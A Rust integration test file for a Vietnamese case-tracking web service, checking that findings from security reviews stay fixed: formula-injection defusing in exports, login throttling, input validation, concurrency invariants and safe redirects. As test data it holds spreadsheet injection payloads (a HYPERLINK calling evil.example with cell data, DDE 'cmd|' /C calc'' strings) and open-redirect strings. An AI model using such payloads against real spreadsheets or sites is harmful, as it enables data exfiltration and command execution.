//! The attack run, kept: each failure it found, replayed over HTTP against the real server
//! (parallel bursts included), on whichever database the suite runs on.

mod common;

use std::time::Duration;

use casetrack::db::schema::{audit_log, cases, outbox, unit_closure, units, users};
use casetrack::domain::role::Role;
use casetrack::jobs;
use casetrack::model::unit::Unit;
use chrono::{TimeZone, Utc};
use common::world::World;
use common::{Login, Reply, TestApp, spawn, spawn_with};
use diesel::prelude::*;
use futures_util::future::join_all;
use reqwest::Method;
use serde_json::{Value, json};

/// The problem code at the end of a problem's `type`.
fn problem_code(r: &Reply) -> String {
    r.body["type"].as_str().unwrap_or("").rsplit(':').next().unwrap_or("").to_string()
}

/// A fresh access token for `username` (after the test clock has moved past the old one's life).
async fn token(app: &TestApp, username: &str) -> String {
    app.login(username, common::PASSWORD).await.expect(200).body["access_token"].as_str().unwrap().to_string()
}

/// A server whose jobs mail into memory, and a Điện Biên case that Ba Đình handles, due at the end
/// of 2024-10-31; Ba Đình's head heads the unit, so its overdue cases alert them.
async fn case_of_ba_dinh_in_handling(title: &str) -> (TestApp, World, Value) {
    let app = spawn().await;
    let w = World::new(&app).await;
    app.with_conn(|c| {
        diesel::update(units::table.find(&w.ba_dinh.id)).set(units::head_user_id.eq(&w.ba_dinh_head.user.id)).execute(c)
    })
    .unwrap();
    let case = w.log_case(&app, &w.dien_bien, title).await;
    w.act(&app, &w.city_reviewer, &case, w.transition_body("accept")).await.expect(200);
    (app, w, case)
}

fn sorted_statuses(replies: &[Reply]) -> Vec<u16> {
    let mut s: Vec<u16> = replies.iter().map(|r| r.status.as_u16()).collect();
    s.sort();
    s
}

// 1. Spreadsheet formula injection.

#[tokio::test]
async fn csv_exports_defuse_formulas_and_keep_numbers() {
    let app = spawn().await;
    let w = World::new(&app).await;
    // A district named as a formula: it heads a row of the report and names the subject.
    let evil_name = "=HYPERLINK(\"http://evil.example/\",\"Đơn vị\")";
    app.with_conn(|c| diesel::update(units::table.find(&w.ba_dinh.id)).set(units::name.eq(evil_name)).execute(c))
        .unwrap();
    let mut body = w.case_body(&w.ba_dinh, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
    body["subject"]["person_name"] = json!("+cmd|' /C calc'!A0");
    body["subject"]["person_position"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    app.post("/api/v1/cases", Some(&w.inspector.token), body).await.expect(201);

    let r = app.get("/api/v1/cases?format=csv", &w.city_reviewer.token).await.expect(200);
    let csv = r.body.as_str().unwrap().trim_start_matches('\u{feff}').to_string();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    let cells: Vec<&str> = row.iter().collect();
    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"), "{cells:?}");
    assert!(cells.contains(&"'+cmd|' /C calc'!A0"), "{cells:?}");
    assert!(cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0"), "{cells:?}");
    assert!(cells.contains(&"'=HYPERLINK(\"http://evil.example/\",\"Đơn vị\")"), "{cells:?}");
    for cell in &cells {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula: {cell}");
    }

    // The report names the unit too; its counts stay plain numbers.
    let r = app.get("/api/v1/reports/summary?format=csv", &w.city_reviewer.token).await.expect(200);
    let text = r.body.as_str().unwrap();
    let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes());
    let mut saw_unit = false;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a live formula: {cell}");
            assert!(!cell.starts_with('-') || cell[1..].chars().all(|c| c.is_ascii_digit() || c == '.'), "{cell}");
            saw_unit |= cell == "'=HYPERLINK(\"http://evil.example/\",\"Đơn vị\")";
        }
    }
    assert!(saw_unit, "the report lists the unit, defused: {text}");

    // XLSX writes the same text as a string cell, never a formula.
    let r = app
        .http
        .get(format!("{}/api/v1/cases?format=xlsx", app.base))
        .bearer_auth(&w.city_reviewer.token)
        .send()
        .await
        .unwrap();
    let bytes = r.bytes().await.unwrap().to_vec();
    use calamine::{Data, Reader, Xlsx};
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula cells");
    let range = book.worksheet_range(&name).unwrap();
    assert!(
        range
            .used_cells()
            .any(|(_, _, c)| *c == Data::String("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")".into())),
        "the title is kept verbatim as text"
    );
}

// 2. Sign-in throttling in parallel.

#[tokio::test]
async fn a_parallel_burst_of_wrong_passwords_gets_no_more_attempts_than_the_limit() {
    let app = spawn().await;
    app.user("nan.nhan", Role::Inspector, None);
    let burst = (0..40).map(|i| app.login("nan.nhan", if i % 2 == 0 { "sai-mat-khau-1" } else { "sai-mat-khau-2" }));
    let replies = join_all(burst).await;
    let refused = replies.iter().filter(|r| r.status == 401).count();
    let throttled = replies.iter().filter(|r| r.status == 429).count();
    assert_eq!((refused, throttled), (5, 35), "{:?}", sorted_statuses(&replies));
    // Even the right password now waits.
    app.login("nan.nhan", common::PASSWORD).await.expect(429);

    // Eleven wrong guesses and the right one at once: held to what the same attempts in
    // some sequence would get. Before a success at most four wrong ones are checked, and
    // (a success forgetting earlier failures) at most five after it.
    app.user("nan.nhan2", Role::Inspector, None);
    let mut burst: Vec<_> = (0..11).map(|_| app.login("nan.nhan2", "doan-bua-bai")).collect();
    burst.insert(6, app.login("nan.nhan2", common::PASSWORD));
    let replies = join_all(burst).await;
    let signed_in = replies.iter().filter(|r| r.status == 200).count();
    let wrong_checked = replies.iter().filter(|r| r.status == 401).count();
    let limit = if signed_in == 1 { 4 + 5 } else { 5 };
    assert!(wrong_checked <= limit, "{wrong_checked} wrong passwords checked: {:?}", sorted_statuses(&replies));
    assert!(replies.iter().all(|r| [200, 401, 429].contains(&r.status.as_u16())));
}

#[tokio::test]
async fn an_office_signing_in_at_once_behind_one_address_is_never_throttled() {
    // Everyone arriving at 8:00 behind the city network's one address: only failures count.
    let app = spawn().await;
    let names: Vec<String> = (0..30).map(|i| format!("can.bo{i}")).collect();
    for name in &names {
        app.user(name, Role::Inspector, None);
    }
    let replies = join_all(names.iter().map(|name| app.login(name, common::PASSWORD))).await;
    assert!(replies.iter().all(|r| r.status == 200), "{:?}", sorted_statuses(&replies));
}

#[tokio::test]
async fn a_parallel_burst_from_one_address_is_held_to_the_address_limit() {
    let app = spawn().await;
    let names: Vec<String> = (0..40).map(|i| format!("khong-co-{i}")).collect();
    let burst = names.iter().map(|name| app.login(name, "mat-khau-bat-ky"));
    let replies = join_all(burst).await;
    let refused = replies.iter().filter(|r| r.status == 401).count();
    assert_eq!(refused, 20, "per address limit: {:?}", sorted_statuses(&replies));
}

// 3. Values the database cannot store.

#[tokio::test]
async fn cursors_and_dates_out_of_range_are_422s_naming_the_parameter() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let case = w.log_case(&app, &w.dien_bien, "Vụ việc để thử").await;
    let case_id = case["id"].as_str().unwrap();
    let events = format!("/api/v1/cases/{case_id}/events");
    let lists: [(&str, &str); 8] = [
        ("/api/v1/users", &w.admin.token),
        ("/api/v1/units", &w.admin.token),
        ("/api/v1/campaigns", &w.inspector.token),
        ("/api/v1/cases", &w.city_reviewer.token),
        (&events, &w.city_reviewer.token),
        ("/api/v1/me/notifications", &w.ba_dinh_head.token),
        ("/api/v1/admin/outbox", &w.admin.token),
        ("/api/v1/audit", &w.admin.token),
    ];
    // `AA` decodes to a NUL byte; the others to text that is no id.
    for cursor in ["AA", "bm90LWFuLWlk", "JyBPUiAxPTEgLS0"] {
        for (path, token) in &lists {
            let r = app.get(&format!("{path}?cursor={cursor}"), token).await.expect(422);
            assert_eq!(r.error_fields(), vec!["cursor"], "{path}");
        }
    }
    for (path, token) in [
        ("/api/v1/cases?from=-9999-01-01", &w.city_reviewer.token),
        ("/api/v1/cases?from=0999-01-01", &w.city_reviewer.token),
        ("/api/v1/reports/summary?from=-9999-01-01", &w.city_reviewer.token),
        ("/api/v1/reports/series?from=%2B99999-12-31", &w.city_reviewer.token),
        ("/api/v1/audit?from=-9999-01-01", &w.admin.token),
        ("/api/v1/audit?from=0001-01-01T00:00:00Z", &w.admin.token),
    ] {
        let r = app.get(path, token).await.expect(422);
        assert_eq!(r.error_fields(), vec!["from"], "{path}");
    }

    let before = app.audit_count();
    let campaign = json!({"title": "Đợt kiểm tra", "kind": "inspection", "directive_id": w.campaign.directive_id,
        "starts_on": "-9999-01-01", "ends_on": "+99999-12-31", "target_unit_ids": [w.ba_dinh.id],
        "lead_id": w.inspector.user.id});
    let r = app.post("/api/v1/campaigns", Some(&w.city_reviewer.token), campaign).await.expect(422);
    assert_eq!(r.error_fields(), vec!["starts_on", "ends_on"]);

    let mut accept = w.transition_body("accept");
    accept["due_at"] = json!("+99999-12-31");
    let r = w.act(&app, &w.city_reviewer, &case, accept.clone()).await.expect(422);
    assert_eq!(r.error_fields(), vec!["due_at"]);
    accept["due_at"] = json!("10000-01-01T00:00:00Z");
    w.act(&app, &w.city_reviewer, &case, accept.clone()).await.expect(422);
    assert_eq!(app.audit_count(), before, "nothing was stored");

    // The last date in range is a deadline like any other: not overdue anywhere.
    accept["due_at"] = json!("9999-12-31");
    let accepted = w.act(&app, &w.city_reviewer, &case, accept).await.expect(200).body;
    assert_eq!(accepted["overdue"], false);
    let overdue = app.get("/api/v1/cases?overdue=true", &w.city_reviewer.token).await.expect(200);
    assert!(overdue.body["items"].as_array().unwrap().iter().all(|c| c["id"] != case["id"]));
    let report = app.get("/api/v1/reports/summary", &w.city_reviewer.token).await.expect(200);
    assert_eq!(report.body["cases"]["overdue"], 0);

    let mut close = w.transition_body("close");
    close["decision"]["decided_on"] = json!("-0001-01-01");
    let r = w.act(&app, &w.city_reviewer, &accepted, close).await.expect(422);
    assert_eq!(r.error_fields(), vec!["decision.decided_on"]);
}

// 4. Invariants under concurrent requests.

#[tokio::test]
async fn two_admins_deactivating_each_other_leave_one_active() {
    let app = spawn().await;
    for trial in 0..8 {
        let a = app.signed_in(&format!("quantri.a{trial}"), Role::Admin, None).await;
        let b = app.signed_in(&format!("quantri.b{trial}"), Role::Admin, None).await;
        // Only these two are active administrators.
        app.with_conn(|c| {
            diesel::update(users::table.filter(users::role.eq("admin")))
                .filter(users::id.ne_all([a.user.id.clone(), b.user.id.clone()]))
                .set(users::active.eq(false))
                .execute(c)
        })
        .unwrap();
        let off = json!({"active": false});
        let (path_a, path_b) = (format!("/api/v1/users/{}", a.user.id), format!("/api/v1/users/{}", b.user.id));
        let (ra, rb) = tokio::join!(
            app.patch(&path_b, &a.token, off.clone(), None),
            app.patch(&path_a, &b.token, off.clone(), None),
        );
        let active: i64 = app
            .with_conn(|c| {
                users::table.filter(users::role.eq("admin")).filter(users::active.eq(true)).count().get_result(c)
            })
            .unwrap();
        assert_eq!(active, 1, "trial {trial}: {} / {}", ra.body, rb.body);
        let mut codes = vec![ra.status.as_u16(), rb.status.as_u16()];
        codes.sort();
        assert_eq!(codes[0], 200, "one of them succeeded");
        assert!(codes[1] == 409 || codes[1] == 401, "the other is refused, not a 500: {codes:?}");
        for r in [&ra, &rb] {
            if r.status == 409 {
                assert_eq!(problem_code(r), "last-admin");
            }
        }
    }
}

#[tokio::test]
async fn units_moved_under_each_other_at_once_never_make_a_cycle() {
    let app = spawn().await;
    let w = World::new(&app).await;
    for trial in 0..15 {
        let x = app.unit(&format!("X-{trial}"), "Đơn vị X", "other", Some(&w.city));
        let y = app.unit(&format!("Y-{trial}"), "Đơn vị Y", "other", Some(&w.city));
        let (path_x, path_y) = (format!("/api/v1/units/{}", x.id), format!("/api/v1/units/{}", y.id));
        let (rx, ry) = tokio::join!(
            app.patch(&path_x, &w.admin.token, json!({"parent_id": y.id}), None),
            app.patch(&path_y, &w.admin.token, json!({"parent_id": x.id}), None),
        );
        assert_eq!(sorted_statuses(&[rx, ry]), vec![200, 422], "trial {trial}");
        let (x_under_y, y_under_x) = app.with_conn(|c| {
            (Unit::is_in_subtree(c, &y.id, &x.id).unwrap(), Unit::is_in_subtree(c, &x.id, &y.id).unwrap())
        });
        assert!(x_under_y ^ y_under_x, "trial {trial}: exactly one is under the other");
    }
    // The closure table still says each unit is its own ancestor exactly once, and no more.
    let selfs: i64 = app
        .with_conn(|c| {
            unit_closure::table.filter(unit_closure::ancestor_id.eq(unit_closure::descendant_id)).count().get_result(c)
        })
        .unwrap();
    let all_units: i64 = app.with_conn(|c| units::table.count().get_result(c)).unwrap();
    assert_eq!(selfs, all_units);
}

#[tokio::test]
async fn the_same_username_or_unit_code_created_twice_at_once_is_one_201_and_one_409() {
    let app = spawn().await;
    let w = World::new(&app).await;
    for trial in 0..8 {
        let user = json!({"username": format!("trung.ten{trial}"), "full_name": "Trùng Tên", "role": "inspector"});
        let (a, b) = tokio::join!(
            app.post("/api/v1/users", Some(&w.admin.token), user.clone()),
            app.post("/api/v1/users", Some(&w.admin.token), user.clone()),
        );
        let replies = [a, b];
        assert_eq!(sorted_statuses(&replies), vec![201, 409], "trial {trial}");
        let clash = replies.iter().find(|r| r.status == 409).unwrap();
        assert_eq!(problem_code(clash), "username-taken");

        let unit =
            json!({"code": format!("TRUNG-MA-{trial}"), "name": "Trùng mã", "kind": "other", "parent_id": w.city.id});
        let (a, b) = tokio::join!(
            app.post("/api/v1/units", Some(&w.admin.token), unit.clone()),
            app.post("/api/v1/units", Some(&w.admin.token), unit.clone()),
        );
        let replies = [a, b];
        assert_eq!(sorted_statuses(&replies), vec![201, 409], "trial {trial}");
        assert_eq!(problem_code(replies.iter().find(|r| r.status == 409).unwrap()), "unit-code-taken");
    }
    // The clash codes differ from the workflow's and the version check's.
    let case = w.case_in(&app, "closed").await;
    let r = w.act(&app, &w.city_reviewer, &case, w.transition_body("accept")).await.expect(409);
    assert_eq!(problem_code(&r), "transition-not-allowed");
}

#[tokio::test]
async fn no_case_lands_in_a_campaign_after_it_is_concluded() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let campaign_path = format!("/api/v1/campaigns/{}", w.campaign.id);
    let creates = (0..12).map(|i| {
        let body = w.case_body(&w.dien_bien, &format!("Vụ việc song song {i}"));
        app.post("/api/v1/cases", Some(&w.inspector.token), body)
    });
    let conclude = app.patch(&campaign_path, &w.city_reviewer.token, json!({"status": "concluded"}), None);
    let (created, concluded) = tokio::join!(join_all(creates), conclude);
    concluded.expect(200);
    for r in &created {
        assert!(r.status == 201 || r.status == 422, "{}", r.body);
        if r.status == 422 {
            assert_eq!(r.error_fields(), vec!["campaign_id"]);
        }
    }
    // Every case that was logged was logged before the campaign was concluded: its audit
    // record (ids are time-ordered) precedes the conclusion's.
    let (case_audits, conclusion): (Vec<String>, String) = app.with_conn(|c| {
        let ids: Vec<String> =
            cases::table.filter(cases::campaign_id.eq(&w.campaign.id)).select(cases::id).load(c).unwrap();
        let audits = audit_log::table
            .filter(audit_log::entity_type.eq("case"))
            .filter(audit_log::action.eq("create"))
            .filter(audit_log::entity_id.eq_any(&ids))
            .select(audit_log::id)
            .load(c)
            .unwrap();
        let conclusion = audit_log::table
            .filter(audit_log::entity_type.eq("campaign"))
            .filter(audit_log::entity_id.eq(&w.campaign.id))
            .select(audit_log::id)
            .first(c)
            .unwrap();
        (audits, conclusion)
    });
    assert_eq!(case_audits.len(), created.iter().filter(|r| r.status == 201).count());
    assert!(case_audits.iter().all(|a| *a < conclusion), "a case was logged after the conclusion");
    app.post("/api/v1/cases", Some(&w.inspector.token), w.case_body(&w.dien_bien, "Muộn")).await.expect(422);
}

#[tokio::test]
async fn a_cycle_in_the_unit_tree_does_not_hang_the_sweep() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let p = app.unit("VONG-P", "Đơn vị P", "other", Some(&w.city));
    let q = app.unit("VONG-Q", "Đơn vị Q", "other", Some(&p));
    let case = w.log_case(&app, &w.dien_bien, "Vụ việc trong vòng lặp").await;
    let mut accept = w.transition_body("accept");
    accept["responsible_unit_id"] = json!(p.id);
    w.act(&app, &w.city_reviewer, &case, accept).await.expect(200);
    // Bad data written behind the API's back: P's parent is Q, Q's parent is P; no heads, no mail.
    app.with_conn(|c| diesel::update(units::table.find(&p.id)).set(units::parent_id.eq(&q.id)).execute(c)).unwrap();
    app.clock.set(Utc.with_ymd_and_hms(2024, 12, 15, 0, 0, 0).unwrap());
    let (swept, _) = tokio::time::timeout(Duration::from_secs(60), app.run_jobs()).await.expect("the sweep finished");
    assert!(swept.ran);
}

// 5. Notifications outlive scope.

#[tokio::test]
async fn notifications_show_only_cases_the_caller_may_still_see() {
    let (app, w, case) = case_of_ba_dinh_in_handling("Vụ việc của Ba Đình").await;
    app.clock.set(Utc.with_ymd_and_hms(2024, 11, 2, 0, 0, 0).unwrap());
    app.run_jobs().await;
    let (head, admin) = (token(&app, "truong.badinh").await, token(&app, "quantri").await);
    let mine = app.get("/api/v1/me/notifications", &head).await.expect(200);
    assert!(mine.body["items"].as_array().unwrap().iter().any(|n| n["case_id"] == case["id"]), "{}", mine.body);

    // Moved to Cầu Giấy: the Ba Đình case is out of sight, and so is its alert.
    let path = format!("/api/v1/users/{}", w.ba_dinh_head.user.id);
    app.patch(&path, &admin, json!({"unit_id": w.cau_giay.id}), None).await.expect(200);
    app.get(&format!("/api/v1/cases/{}", case["id"].as_str().unwrap()), &head).await.expect(404);
    let mine = app.get("/api/v1/me/notifications", &head).await.expect(200);
    assert_eq!(mine.body["items"], json!([]), "{}", mine.body);
}

// 6. Campaign membership cannot widen a reviewer's scope.

#[tokio::test]
async fn a_district_reviewer_cannot_grant_access_beyond_their_district() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let case = w.log_case(&app, &w.cau_giay, "Vụ việc ở Cầu Giấy").await;
    let case_path = format!("/api/v1/cases/{}", case["id"].as_str().unwrap());

    // The world's campaign targets Ba Đình and Cầu Giấy: the Ba Đình reviewer may not change it.
    let campaign_path = format!("/api/v1/campaigns/{}", w.campaign.id);
    let widen = json!({"member_ids": [w.inspector.user.id, w.inspector2.user.id, w.outsider.user.id]});
    app.patch(&campaign_path, &w.ba_dinh_reviewer.token, widen.clone(), None).await.expect(403);
    app.get(&case_path, &w.outsider.token).await.expect(404);

    // Their own campaigns target only their subtree.
    let mut mine = json!({"title": "Kiểm tra Ba Đình", "kind": "inspection", "directive_id": w.campaign.directive_id,
        "starts_on": "2024-07-01", "ends_on": "2024-12-31", "lead_id": w.outsider.user.id,
        "target_unit_ids": [w.dien_bien.id, w.cau_giay.id]});
    let r = app.post("/api/v1/campaigns", Some(&w.ba_dinh_reviewer.token), mine.clone()).await.expect(422);
    let fields = r.error_fields();
    assert_eq!(fields.len(), 1);
    assert!(fields[0].starts_with("target_unit_ids["), "{fields:?}");
    mine["target_unit_ids"] = json!([w.dien_bien.id]);
    app.post("/api/v1/campaigns", Some(&w.ba_dinh_reviewer.token), mine).await.expect(201);

    // The city reviewer, whose subtree holds every target, may.
    app.patch(&campaign_path, &w.city_reviewer.token, widen, None).await.expect(200);
}

// 7. Smaller ones.

#[tokio::test]
async fn only_a_failed_message_can_be_retried() {
    let (app, w, _case) = case_of_ba_dinh_in_handling("Vụ việc quá hạn").await;
    let now = Utc.with_ymd_and_hms(2024, 11, 2, 0, 0, 0).unwrap().naive_utc();
    let policy = app.state.settings.escalation.clone();
    let swept =
        app.with_conn(|c| jobs::sweep::sweep(c, &policy, chrono_tz::Asia::Ho_Chi_Minh, now, "hanoi.gov.vn")).unwrap();
    assert!(swept.messages > 0);
    let (id, attempts): (String, i32) =
        app.with_conn(|c| outbox::table.select((outbox::id, outbox::attempts)).first(c)).unwrap();
    app.with_conn(|c| diesel::update(outbox::table.find(&id)).set(outbox::attempts.eq(2)).execute(c)).unwrap();
    let path = format!("/api/v1/admin/outbox/{id}/retry");
    let r = app.call(Method::POST, &path, Some(&w.admin.token), None, &[]).await.expect(409);
    assert_eq!(problem_code(&r), "not-retryable");
    let kept: i32 = app.with_conn(|c| outbox::table.find(&id).select(outbox::attempts).first(c)).unwrap();
    assert_eq!((attempts, kept), (0, 2), "a refused retry changes nothing");

    app.with_conn(|c| diesel::update(outbox::table.find(&id)).set(outbox::status.eq("failed")).execute(c)).unwrap();
    let r = app.call(Method::POST, &path, Some(&w.admin.token), None, &[]).await.expect(200);
    assert_eq!((r.body["status"].clone(), r.body["attempts"].clone()), (json!("pending"), json!(0)));
}

/// Sends `GET target` over a raw connection (HTTP clients refuse URLs past 64 KiB) and
/// returns the status, the content type and the body.
async fn raw_get(app: &TestApp, target: &str) -> (u16, String, Value) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut conn = tokio::net::TcpStream::connect(app.base.trim_start_matches("http://")).await.unwrap();
    let request = format!("GET {target} HTTP/1.1\r\nHost: casetrack\r\nConnection: close\r\n\r\n");
    // The server may answer and close before it has read the whole head.
    let _ = conn.write_all(request.as_bytes()).await;
    let mut raw = Vec::new();
    let _ = conn.read_to_end(&mut raw).await;
    let text = String::from_utf8_lossy(&raw).to_string();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let content_type = head
        .lines()
        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-type: ").map(str::to_string))
        .unwrap_or_default();
    (status, content_type, serde_json::from_str(body).unwrap_or(Value::Null))
}

#[tokio::test]
async fn a_huge_url_gets_a_problem_document() {
    let app = spawn().await;
    // Up to the 64 KiB the HTTP parser holds, the service refuses it (414); past that the
    // parser answers (400, and 431 past its 128 KiB buffer), rewritten as a problem too.
    for (size, expected) in [(20_000, 414), (60_000, 414), (100_000, 400), (140_000, 431)] {
        let (status, content_type, body) = raw_get(&app, &format!("/api/v1/cases?q={}", "a".repeat(size))).await;
        assert_eq!(status, expected, "{size}");
        assert_eq!(content_type, "application/problem+json", "{size}");
        assert_eq!(body["status"], expected, "{size}");
        assert!(body["detail"].as_str().is_some_and(|d| !d.is_empty()), "{size}: {body}");
    }
    // Every ordinary exchange passes the connection wrapper untouched.
    app.call(Method::GET, "/healthz", None, None, &[]).await.expect(200);
    app.call(Method::GET, "/api/v1/khong-co", None, None, &[]).await.expect(404);
    let (status, _, body) = raw_get(&app, "/healthz").await;
    assert_eq!((status, body["status"].as_str()), (200, Some("ok")));
}

#[tokio::test]
async fn a_download_is_named_for_its_checked_type() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let case = w.log_case(&app, &w.dien_bien, "Vụ việc có tệp").await;
    let base = format!("{}/api/v1/cases/{}/attachments", app.base, case["id"].as_str().unwrap());
    let part = reqwest::multipart::Part::bytes(b"%PDF-1.4 bien ban".to_vec())
        .file_name("bien-ban.html")
        .mime_str("application/pdf")
        .unwrap();
    let form = reqwest::multipart::Form::new().part("file", part);
    let r = app.http.post(&base).bearer_auth(&w.inspector.token).multipart(form).send().await.unwrap();
    assert_eq!(r.status(), 201);
    let created: Value = r.json().await.unwrap();
    let r = app
        .http
        .get(format!("{base}/{}", created["id"].as_str().unwrap()))
        .bearer_auth(&w.city_reviewer.token)
        .send()
        .await
        .unwrap();
    let disposition = r.headers()["content-disposition"].to_str().unwrap().to_string();
    assert!(disposition.contains("filename=\"bien-ban.html.pdf\""), "{disposition}");
    assert_eq!(r.headers()["content-type"], "application/pdf");
}

#[tokio::test]
async fn a_422_lists_every_bad_field_at_once() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let body = json!({"title": "", "severity": "extreme", "detected_on": "20/09/2024",
        "subject": {"kind": "robot", "unit_id": w.ba_dinh.id}, "indicator_ids": []});
    let r = app.post("/api/v1/cases", Some(&w.inspector.token), body).await.expect(422);
    let mut fields = r.error_fields();
    fields.sort();
    assert_eq!(
        fields,
        vec!["campaign_id", "description", "detected_on", "indicator_ids", "severity", "subject.kind", "title"],
        "missing and invalid fields together"
    );

    let path = format!("/api/v1/users/{}", w.inspector.user.id);
    let r = app.patch(&path, &w.admin.token, json!({"full_name": "", "role": "chief", "password": "ngan"}), None).await;
    let mut fields = r.expect(422).error_fields();
    fields.sort();
    assert_eq!(fields, vec!["full_name", "password", "role"]);
}

#[tokio::test]
async fn an_export_larger_than_allowed_is_refused_not_cut_short() {
    let app = spawn_with(|s| s.cases.export_max_rows = 2).await;
    let w = World::new(&app).await;
    for i in 0..3 {
        w.log_case(&app, &w.dien_bien, &format!("Vụ việc {i}")).await;
    }
    for format in ["csv", "xlsx"] {
        let r = app.get(&format!("/api/v1/cases?format={format}"), &w.city_reviewer.token).await.expect(422);
        assert_eq!(r.error_fields(), vec!["format"]);
        assert!(r.body["errors"][0]["message"].as_str().unwrap().contains("thu hẹp"), "{}", r.body);
    }
    // Narrowed to fit, it exports.
    let campaign = format!("/api/v1/cases?format=csv&q={}", "V%E1%BB%A5%20vi%E1%BB%87c%201");
    app.get(&campaign, &w.city_reviewer.token).await.expect(200);
}

// 8. The second attack run: each finding, for its whole class.

/// The case's status and responsible unit, read behind the API.
fn stored(app: &TestApp, case: &Value) -> (String, Option<String>) {
    let id = case["id"].as_str().unwrap().to_string();
    app.with_conn(|c| cases::table.find(&id).select((cases::status, cases::responsible_unit_id)).first(c)).unwrap()
}

#[tokio::test]
async fn every_unit_a_write_names_is_one_its_actor_answers_for() {
    let app = spawn().await;
    let w = World::new(&app).await;
    let rev = &w.ba_dinh_reviewer;
    let elsewhere = |action: &str| {
        let mut b = w.transition_body(action);
        b["responsible_unit_id"] = json!(w.cau_giay.id);
        b
    };
    let refused = |r: Reply, field: &str| {
        assert_eq!(r.expect(422).error_fields(), vec![field.to_string()]);
    };

    // accept: handing a Ba Đình case to Cầu Giấy is refused, and nothing is written.
    let case = w.log_case(&app, &w.dien_bien, "Giao cho quận khác").await;
    let before = app.audit_count();
    refused(w.act(&app, rev, &case, elsewhere("accept")).await, "responsible_unit_id");
    assert_eq!(app.audit_count(), before);
    assert_eq!(stored(&app, &case), ("open".into(), None));
    let case = w.act(&app, rev, &case, w.transition_body("accept")).await.expect(200).body;

    // PATCH: neither the responsible unit nor the subject moves out of reach (Cầu Giấy is a
    // target of the campaign, so only the reviewer's reach refuses it).
    let path = format!("/api/v1/cases/{}", case["id"].as_str().unwrap());
    refused(
        app.patch(&path, &rev.token, json!({"responsible_unit_id": w.cau_giay.id}), None).await,
        "responsible_unit_id",
    );
    let subject = json!({"subject": {"kind": "organization", "unit_id": w.cau_giay.id}});
    refused(app.patch(&path, &rev.token, subject, None).await, "subject.unit_id");
    assert_eq!(app.audit_count(), before + 1, "the accept only: the refused changes wrote nothing");

    // return and reopen: a unit named in the body is checked even where the row ignores it.
    let case = w.act(&app, &w.ba_dinh_head, &case, w.transition_body("report_remediation")).await.expect(200).body;
    refused(w.act(&app, rev, &case, elsewhere("return")).await, "responsible_unit_id");
    let case = w.act(&app, rev, &case, w.transition_body("close")).await.expect(200).body;
    refused(w.act(&app, rev, &case, elsewhere("reopen")).await, "responsible_unit_id");
    assert_eq!(stored(&app, &case), ("closed".into(), Some(w.ba_dinh.id.clone())));

    // A dismissed case has no responsible unit: reopening names one, within reach.
    let dismissed = w.log_case(&app, &w.dien_bien, "Mở lại cho quận khác").await;
    let dismissed = w.act(&app, rev, &dismissed, w.transition_body("dismiss")).await.expect(200).body;
    refused(w.act(&app, rev, &dismissed, elsewhere("reopen")).await, "responsible_unit_id");
    assert_eq!(stored(&app, &dismissed), ("dismissed".into(), None));

    // The console's bulk accept goes through the same rule.
    let open = w.log_case(&app, &w.dien_bien, "Tiếp nhận hàng loạt").await;
    let v = common::visitor::Visitor::signed_in(&app, "ubkt.badinh").await;
    let csrf = v.csrf().await;
    let id = open["id"].as_str().unwrap();
    let page = v
        .post(
            "/cases/bulk-accept",
            &[("_csrf", &csrf), ("case_ids", id), ("responsible_unit_id", &w.cau_giay.id), ("due_at", "2024-10-31")],
        )
        .await;
    assert_eq!(page.status.as_u16(), 422, "{}", page.html);
    assert_eq!(stored(&app, &open), ("open".into(), None));

    // Campaigns: a district reviewer's members are inspectors, or reviewers of the district.
    let campaign = |member: &str| {
        json!({"title": "Kiểm tra quận", "kind": "inspection", "directive_id": w.campaign.directive_id,
               "starts_on": "2024-10-01", "ends_on": "2024-12-31", "lead_id": w.inspector.user.id,
               "member_ids": [member], "target_unit_ids": [w.dien_bien.id]})
    };
    for outsider in [&w.city_reviewer, &w.cau_giay_head, &w.admin] {
        let r = app.post("/api/v1/campaigns", Some(&rev.token), campaign(&outsider.user.id)).await;
        assert!(r.expect(422).error_fields().iter().any(|f| f.starts_with("member_ids")), "{}", outsider.user.username);
    }
    app.post("/api/v1/campaigns", Some(&rev.token), campaign(&w.inspector2.user.id)).await.expect(201);
}

#[tokio::test]
async fn after_sign_in_the_browser_goes_only_to_a_path_of_this_site() {
    let app = spawn().await;
    app.user("can.bo", Role::Inspector, None);
    for next in
        ["/\t/evil.example", "/\n/evil.example", "/\\evil.example", "//evil.example", "/%2F/evil.example", "/./\\evil"]
    {
        let v = common::visitor::Visitor::new(&app);
        let form = v
            .get(&format!(
                "/sign-in?next={}",
                url::form_urlencoded::byte_serialize(next.as_bytes()).collect::<String>()
            ))
            .await;
        assert!(form.text().contains("name=\"next\" value=\"/\""), "the form carries / for {next:?}: {}", form.html);
        let csrf = form.csrf();
        let r = v
            .post(
                "/sign-in",
                &[("_csrf", &csrf), ("next", next), ("username", "can.bo"), ("password", common::PASSWORD)],
            )
            .await;
        assert_eq!((r.status.as_u16(), r.location().as_deref()), (303, Some("/")), "{next:?}");
    }
